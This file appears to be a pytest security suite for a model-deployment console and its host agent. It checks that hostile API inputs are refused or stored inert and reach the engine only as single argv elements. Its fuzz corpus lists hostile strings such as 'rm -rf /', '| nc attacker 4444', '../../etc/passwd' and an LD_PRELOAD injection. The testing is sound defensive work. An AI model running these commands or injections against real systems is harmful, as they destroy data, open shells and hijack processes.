"""Promise: hostile input is refused cleanly or stored as inert text — never a 5xx, never
executed, never half-stored.

A hand-written corpus (shell metacharacters and flag injection, `../` traversal, NUL bytes,
huge and negative numbers, oversize bodies, unicode confusables) goes into every API input
that takes text or numbers: deployment create/update (model path, extra args and env,
names, selectors), node labels and state, NPU isolation, incident notes, tokens, enrollment,
diagnosis, log and telemetry queries. A refused request leaves every row count unchanged.
On the host side, a value that passed the console reaches the engine as one argv element
(checked by running the argv without a shell), and the agent itself refuses a spec that
fails validation, whoever sent it.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.apps import apps
from pydantic import ValidationError

from console.accounts.services import Actor, create_token
from tests.helpers import make_user
from tests.kit import make_node, make_replica
from workers.contracts import EngineSpec
from workers.engine.argv import build_argv, build_env

pytestmark = [pytest.mark.security, pytest.mark.django_db]

SHELL = [
    "--foo; rm -rf /",
    "$(id)",
    "`id`",
    "x && touch /tmp/npc-pwned",
    "| nc attacker 4444",
    "--model=/etc",
    "-m os",
    "\n--host 0.0.0.0",
]
TRAVERSAL = ["../../etc/passwd", "/models/../etc", "/models/x/../../root", "..", "/../"]
NUL = ["/models/a\x00b", "a\x00b", "\x00"]
CONFUSABLES = ["ԁер-1", "dep‐1", "dep\u200b1", "ｄｅｐ", "kp-01\u202e"]  # Cyrillic, hyphen, ZWSP…
NUMBERS = [-1, -(2**63), 2**63, 2**64 + 1, 10**30, 1e308, float("inf"), "NaN", "1e309"]
STRINGS = SHELL + TRAVERSAL + NUL + CONFUSABLES + ["", " ", "x" * 100_000]


def base_deployment(**fields) -> dict:
    body = {
        "name": "dep-1",
        "model_path": "/models/tiny",
        "served_model_name": "tiny",
        "device": "cpu",
        "replicas": 1,
    }
    body.update(fields)
    return body


def deployment_cases() -> list[dict]:
    cases = []
    for value in STRINGS:
        cases += [
            base_deployment(model_path=value),
            base_deployment(name=value),
            base_deployment(served_model_name=value),
            base_deployment(extra_args=[value]),
            base_deployment(extra_args=["--seed", "1", value]),
            base_deployment(extra_env={value: "1"}),
            base_deployment(extra_env={"VLLM_X": value}),
            base_deployment(node_selector={value: value}),
            base_deployment(pinned_node=value),
            base_deployment(block_size=value),
            base_deployment(model_label=value),
        ]
    for number in NUMBERS:
        for field in (
            "replicas",
            "tensor_parallel_size",
            "max_model_len",
            "max_num_seqs",
            "gpu_memory_utilization",
            "max_num_batched_tokens",
            "block_size",
            "npus_per_replica",
        ):
            cases.append(base_deployment(**{field: number}))
        cases.append(base_deployment(npu_ids=[number]))
    cases += [
        base_deployment(extra_env={"LD_PRELOAD": "/tmp/evil.so"}),
        base_deployment(extra_env={"PYTHONPATH": "/tmp"}),
        base_deployment(extra_args=["--model", "/etc"]),
        base_deployment(extra_args=["--port=22"]),
        base_deployment(extra_args=["--not-a-vllm-flag"]),
        base_deployment(extra_args=["rm", "-rf", "/"]),
        base_deployment(extra_args=["--seed"] * 1000),
        base_deployment(extra_env={f"VLLM_{i}": "1" for i in range(1000)}),
    ]
    return cases


def counts() -> dict[str, int]:
    return {m._meta.label: m.objects.count() for m in apps.get_models() if m._meta.managed}


def dumps(body) -> str:
    # allow_nan: send NaN/Infinity as JSON extensions, the way a hostile client might
    return json.dumps(body, allow_nan=True)


TINY_MODEL = {
    "ok": True,
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "param_count": 1_000_000,
    "num_attention_heads": 4,
    "num_key_value_heads": 4,
    "num_hidden_layers": 2,
    "hidden_size": 64,
    "max_position_embeddings": 2048,
    "torch_dtype": "float32",
    "weights_bytes": 4_000_000,
}


@pytest.fixture
def admin_api(db, monkeypatch):
    # the model inspection is a host task (tested end to end elsewhere); answered here in-process
    monkeypatch.setattr(
        "console.deployments.services.inspect_model",
        lambda node, path, timeout=20.0: dict(TINY_MODEL, path=path),
    )
    admin = make_user("hostile-admin", "admin")
    _, raw = create_token(actor=Actor(user=admin, name="ada"), name="h", scope="write")
    from django.test import Client

    client = Client(HTTP_AUTHORIZATION=f"Bearer {raw}")
    make_node("kp-01", npus=2)
    return client


def send(client, method: str, path: str, body=None):
    data = body if isinstance(body, str | bytes) else dumps(body if body is not None else {})
    return client.generic(method, path, data=data, content_type="application/json")


def assert_clean_refusal(resp, what) -> None:
    assert resp.status_code < 500, (what, resp.status_code, resp.content[:300])
    if resp.status_code >= 400:
        ctype = resp.get("Content-Type", "")
        assert ctype.startswith("application/json"), (what, resp.status_code, resp.content[:200])
        body = resp.json()  # a JSON error, not an HTML page
        assert body.get("message"), (what, body)


def test_deployment_create_refuses_hostile_input_cleanly_and_stores_nothing(admin_api):
    accepted = []
    for body in deployment_cases():
        before = counts()
        resp = send(admin_api, "POST", "/api/v1/deployments", body)
        assert_clean_refusal(resp, body)
        if resp.status_code == 201:
            accepted.append(resp.json())
            send(admin_api, "DELETE", "/api/v1/deployments/dep-1")
            continue
        assert counts() == before, ("a refused request changed rows", repr(body)[:200])
    # what got in is inert data: names as given, never a path outside /, never a NUL
    for dep in accepted:
        assert dep["model_path"].startswith("/") and ".." not in dep["model_path"].split("/")
        assert all("\x00" not in a for a in dep["extra_args"])
        assert not {"LD_PRELOAD", "PYTHONPATH"} & set(dep["extra_env"])


def test_deployment_update_refuses_hostile_input_and_keeps_the_old_spec(admin_api):
    assert send(admin_api, "POST", "/api/v1/deployments", base_deployment()).status_code == 201
    original = admin_api.get("/api/v1/deployments/dep-1").json()
    for body in deployment_cases():
        body["name"] = "dep-1"
        before, stored = counts(), admin_api.get("/api/v1/deployments/dep-1").json()
        resp = send(admin_api, "PUT", "/api/v1/deployments/dep-1", body)
        assert_clean_refusal(resp, body)
        if resp.status_code >= 400:
            assert counts() == before, repr(body)[:200]
            assert admin_api.get("/api/v1/deployments/dep-1").json() == stored
        else:  # accepted: put the original back for the next case
            restore = {k: original[k] for k in base_deployment()} | {"name": "dep-1"}
            send(admin_api, "PUT", "/api/v1/deployments/dep-1", restore)


def other_inputs(node_acc: int, incident: int, replica: int) -> list[tuple[str, str, object]]:
    cases = []
    for value in STRINGS:
        cases += [
            ("PUT", "/api/v1/nodes/kp-01/labels", {"labels": {value: value}}),
            ("PUT", "/api/v1/nodes/kp-01/labels", {"labels": {"zone": value}}),
            ("POST", "/api/v1/nodes/kp-01/state", {"action": value, "reason": value}),
            ("POST", "/api/v1/nodes/kp-01/state", {"action": "maintain", "reason": value}),
            ("POST", f"/api/v1/accelerators/{node_acc}/isolate", {"reason": value}),
            ("POST", f"/api/v1/incidents/{incident}/note", {"text": value}),
            ("POST", "/api/v1/tokens", {"name": value, "scope": value}),
            ("POST", "/api/v1/tokens", {"name": "t", "username": value}),
            ("POST", "/api/v1/enrollment-tokens", {"name": value}),
            ("POST", "/api/v1/diagnose", {"log": value}),
            ("GET", f"/api/v1/nodes?label={value}&status={value}", None),
            ("GET", f"/api/v1/replicas/{replica}/logs?q={value}&level={value}&after={value}", None),
            ("GET", f"/api/v1/replicas/{replica}/logs/download?run={value}", None),
            ("GET", f"/api/v1/telemetry?node={value}&resolution={value}&start={value}", None),
            ("SEGMENT", "/api/v1/diagnose/fault-codes/", value),
            ("SEGMENT", "/api/v1/nodes/", value),
        ]
    for number in NUMBERS:
        cases += [
            ("SEGMENT", "/api/v1/accelerators/", str(number)),
            ("GET", f"/api/v1/replicas/{replica}/logs?limit={number}&after={number}", None),
            ("GET", f"/api/v1/telemetry?node=kp-01&npu_id={number}&start={number}", None),
            ("GET", f"/api/v1/nodes?limit={number}&offset={number}", None),
            ("POST", "/api/v1/deployments/dep-1/scale", {"replicas": number}),
        ]
    return cases


def test_every_other_input_refuses_or_stores_inert_text(admin_api):
    from urllib.parse import quote

    from console.deployments.models import Deployment
    from console.diagnosis.models import Incident

    send(admin_api, "POST", "/api/v1/deployments", base_deployment())
    dep = Deployment.objects.get(pk=admin_api.get("/api/v1/deployments/dep-1").json()["id"])
    replica = make_replica(dep, state="pending")
    incident = Incident.objects.create(category="engine", title="t", fingerprint="fp")
    acc = make_node("kp-02", npus=1).accelerators.get().pk
    for method, path, body in other_inputs(acc, incident.pk, replica.pk):
        if method == "SEGMENT":  # a path segment: percent-encoded, as a client would
            value, method = body, "GET"
            path, body = path + quote(value, safe=""), None
            if not value or "/" in value:  # WSGI decodes %2F: no route; Django's own 404
                assert admin_api.get(path).status_code == 404, path
                continue
        elif "?" in path:  # quote the query values as a client would (NUL included)
            head, _, query = path.partition("?")
            pairs = (p.partition("=") for p in query.split("&"))
            path = head + "?" + "&".join(f"{k}={quote(v, safe='')}" for k, _, v in pairs)
        before = counts()
        resp = send(admin_api, method, path, body)
        assert_clean_refusal(resp, (method, path[:120], repr(body)[:120]))
        if resp.status_code >= 400:
            assert counts() == before, (method, path[:120], repr(body)[:120])


@pytest.mark.parametrize(
    "path",
    ["/api/v1/deployments", "/api/v1/nodes/kp-01/labels", "/api/v1/tokens", "/api/v1/diagnose"],
)
def test_oversize_bodies_are_a_clean_4xx(admin_api, path):
    method = "PUT" if path.endswith("labels") else "POST"
    huge = '{"name": "' + "x" * (6 * 1024 * 1024) + '"}'  # over every limit, diagnose's 5 MB too
    before = counts()
    resp = send(admin_api, method, path, huge)
    assert resp.status_code in (400, 413, 422), (path, resp.status_code)
    assert resp.json()["message"]
    assert counts() == before


def test_deeply_nested_and_malformed_json_is_a_clean_4xx(admin_api):
    for body in ["[" * 100_000, '{"a":' * 50_000, "\xff\xfe", '{"name": "\\ud800"}', "null"]:
        resp = send(admin_api, "POST", "/api/v1/deployments", body.encode("utf-8", "surrogatepass"))
        assert 400 <= resp.status_code < 500, (body[:20], resp.status_code)
        assert resp.json()["message"]


# --- the host side: values reach the engine as argv elements, never through a shell ----------
def spec(**fields) -> EngineSpec:
    values = dict(
        replica_id=1,
        generation=1,
        deployment="dep-1",
        model_path="/models/tiny",
        served_model_name="tiny",
        port=8100,
        device="cpu",
    )
    return EngineSpec(**(values | fields))


def test_accepted_values_with_shell_metacharacters_are_single_argv_elements(tmp_path):
    """Valid-looking but hostile values: each arrives in the engine's argv exactly as given,
    as one element, and nothing in them runs (no shell between the agent and the engine)."""
    marker = tmp_path / "pwned"
    hostile = f"$(touch {marker}); `touch {marker}` && touch {marker} | id"
    s = spec(
        model_path=f"/models/{hostile}",
        extra_args=["--chat-template", hostile, f"--seed={hostile}"],
        extra_env={"VLLM_X": hostile},
    )
    argv = build_argv(s, python=sys.executable)
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
    assert argv[argv.index("--model") + 1] == f"/models/{hostile}"
    assert argv[argv.index("--chat-template") + 1] == hostile
    assert f"--seed={hostile}" in argv
    assert build_env(s, {})["VLLM_X"] == hostile

    # run it the way the supervisor does (an argv list, no shell), with a stand-in engine
    echo = tmp_path / "echo_argv.py"
    echo.write_text("import json, sys\nprint(json.dumps(sys.argv[1:]))\n")
    done = subprocess.run(
        [sys.executable, str(echo), *argv[1:]], capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == argv[1:]
    assert not marker.exists()


def test_the_supervisor_spawns_without_a_shell():
    source = (Path(__file__).resolve().parents[2] / "workers" / "engine").glob("*.py")
    for path in source:
        text = path.read_text()
        assert "shell=True" not in text, path
        assert "os.system(" not in text and "os.popen(" not in text, path


@pytest.mark.parametrize(
    "fields",
    [
        {"model_path": "relative/model"},
        {"model_path": "/models/../etc"},
        {"model_path": "/models/a\x00b"},
        {"served_model_name": "tiny; rm -rf /"},
        {"deployment": "../x"},
        {"host": "0.0.0.0 --api-key x"},
        {"host": "--help"},
        {"dtype": "auto --trust-remote-code"},
        {"quantization": "awq; id"},
        {"extra_args": ["rm", "-rf", "/"]},
        {"extra_args": ["--model", "/etc"]},
        {"extra_args": ["--port=22"]},
        {"extra_args": ["--seed", "1\x00"]},
        {"extra_env": {"LD_PRELOAD": "/tmp/evil.so"}},
        {"extra_env": {"PYTHONSTARTUP": "/tmp/evil.py"}},
        {"extra_env": {"PATH": "/tmp"}},
        {"extra_env": {"BASH_ENV": "/tmp/x"}},
        {"extra_env": {"NPU_AGENT_BROKER_URL": "redis://evil"}},
        {"extra_env": {"lower; id": "1"}},
        {"extra_env": {"VLLM_X": "a\x00b"}},
        {"port": 22},
        {"port": 10**12},
        {"tensor_parallel_size": -1},
        {"gpu_memory_utilization": 2},
        {"unexpected_field": "x"},
    ],
)
def test_the_agent_refuses_a_spec_that_fails_validation(fields):
    """The broker is trusted, but the agent still builds argv only from a validated spec:
    `host.start_replica` validates before anything is spawned."""
    with pytest.raises(ValidationError):
        spec(**fields)


def test_the_agent_start_command_validates_before_spawning():
    """The real `host.start_replica` command handler, on a stand-in supervisor: a spec that
    fails validation, or one placed on another node, never reaches it."""
    from types import SimpleNamespace

    from workers.agent import command_handlers
    from workers.contracts import Tasks

    started = []
    fake = SimpleNamespace(
        config=SimpleNamespace(node_name="kp-01"),
        supervisor=SimpleNamespace(start=started.append),
        rotate=None,
    )
    start = command_handlers(fake)[Tasks.HOST_START_REPLICA]
    ours = spec().model_dump() | {"node": "kp-01"}
    for bad in ({"LD_PRELOAD": "/tmp/evil.so"}, {"PATH": "/tmp"}):
        with pytest.raises(ValidationError):
            start(ours | {"extra_env": bad})
    with pytest.raises(ValidationError):
        start(ours | {"extra_args": ["--foo; rm -rf /"], "model_path": "x"})
    for elsewhere in ("kp-02", None):
        with pytest.raises(ValueError, match="placed on"):
            start(ours | {"node": elsewhere})
    assert started == []
    start(ours)  # a valid spec for this node does reach the supervisor
    assert len(started) == 1
